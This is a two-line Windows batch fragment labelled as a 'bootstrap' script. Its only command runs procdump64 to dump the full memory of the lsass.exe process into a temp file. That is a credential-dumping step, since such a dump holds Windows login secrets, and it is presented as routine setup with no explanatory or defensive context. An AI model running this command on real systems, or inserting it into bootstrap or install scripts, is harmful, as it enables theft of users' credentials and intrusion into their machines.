REM bootstrap 6921 v0
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
